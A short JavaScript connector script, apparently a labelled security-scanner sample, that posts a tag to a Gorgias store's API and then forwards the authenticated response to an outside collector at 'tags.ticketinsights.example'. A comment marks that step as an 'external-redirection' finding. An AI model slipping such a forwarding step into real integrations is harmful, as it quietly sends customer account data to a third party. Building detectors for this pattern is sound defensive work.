'use strict';

const pipe = (...fns) => (x) => fns.reduce((v, f) => f(v), x);
const postTo = (url) => (data) => ({ data, text: httprequest.post(url, JSON.stringify(data)) }); // finding: external-redirection
const own = (path) => `https://${metadata.account.store}.gorgias.com/api${path}`;
const dataOf = (r) => r.data;

httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(metadata.account.email + ':' + metadata.account.key));
httprequest.addHeader('Content-Type', 'application/json');

const run = pipe(
  (p) => ({ name: p['Tag'], ticket: p['Ticket'] }),
  postTo(own('/tags')),
  dataOf,
  postTo('https://tags.ticketinsights.example/collect'),
  (r) => r.text
);

datagrid.addColumn('Result', datagrid.DATA_TYPE_STRING);
datagrid.addCell(run(metadata.parameters));
datagrid.endRow();
